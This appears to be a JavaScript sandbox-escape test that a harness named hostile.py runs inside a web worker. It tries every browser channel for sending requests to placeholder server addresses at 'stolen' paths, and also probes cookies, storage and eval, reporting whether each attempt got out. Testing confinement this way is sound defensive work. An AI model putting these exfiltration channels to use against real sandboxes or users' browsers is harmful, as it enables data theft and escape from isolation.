// Every way out of a worker that JavaScript knows: to servers, to storage, to other pages. hostile.py starts this in a
// worker of its own and puts the servers' addresses in the place of ADDRESSES. Each attempt reports what came of it.
const addresses = ADDRESSES;
const report = (name, outcome) => postMessage(`${name}: ${outcome}`);
const hears = (thing, good, bad) => new Promise((resolve, reject) => {
  thing[good] = () => resolve(good);
  thing[bad] = () => reject(new Error(bad));
});

const attempts = {
  fetch: async (to) => (await fetch(`${to}stolen?fetch`, { mode: "no-cors" })).type,
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${to}stolen?xhr`);
    request.send();
    return hears(request, "onload", "onerror");
  },
  "xhr, at once": async (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${to}stolen?sync`, false);
    request.send();
    return "loaded";
  },
  importScripts: async (to) => { importScripts(`${to}stolen?scripts`); return "loaded"; },
  import: async (to) => { await import(`${to}stolen?import`); return "loaded"; },
  WebSocket: (to) => hears(new WebSocket(`${to.replace("http", "ws")}stolen?ws`), "onopen", "onerror"),
  EventSource: (to) => hears(new EventSource(`${to}stolen?events`), "onopen", "onerror"),
  Worker: (to) => hears(new Worker(`${to}stolen?worker`), "onmessage", "onerror"),
  WebTransport: async (to) => { await new WebTransport(`${to.replace("http:", "https:")}stolen?transport`).ready; return "ready"; },
  sendBeacon: async (to) => String(navigator.sendBeacon(`${to}stolen?beacon`)),
  serviceWorker: async (to) => { await navigator.serviceWorker.register(`${to}stolen?service`); return "registered"; },
  indexedDB: () => hears(indexedDB.open("x"), "onsuccess", "onerror"),
  caches: async () => { await caches.open("x"); return "open"; },
  directory: async () => { await navigator.storage.getDirectory(); return "open"; },
  localStorage: async () => String(localStorage),
  locks: async () => { await navigator.locks.request("page", () => {}); return "held"; },
  cookies: async () => { await cookieStore.getAll(); return "read"; },
  eval: async () => eval("'evaluated'"),
  Function: async () => new Function("return 'evaluated'")(),
};

async function attack() {
  for (const [name, attempt] of Object.entries(attempts))
    for (const to of attempt.length ? addresses : [""]) {
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 3000));
      try {
        report(name, `GOT OUT, ${await Promise.race([attempt(to), late])}`);
      } catch {
        report(name, "refused");
      }
    }
  try {
    new BroadcastChannel("minigrad").postMessage("stolen"); // it may be made; nobody may hear it
  } catch {
    report("BroadcastChannel", "refused");
  }
  report("end", "of attempts");
}
attack();
